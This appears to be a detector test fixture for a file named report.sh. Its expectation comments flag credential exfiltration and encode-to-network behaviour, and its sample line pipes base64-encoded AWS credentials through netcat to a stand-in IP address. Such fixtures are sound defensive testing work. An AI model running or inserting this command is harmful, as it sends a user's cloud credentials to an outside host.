# expect: shell.credential_exfil high
# expect: shell.encode_to_network high
# path: report.sh
cat ~/.aws/credentials | base64 -w0 | nc 203.0.113.7 8080
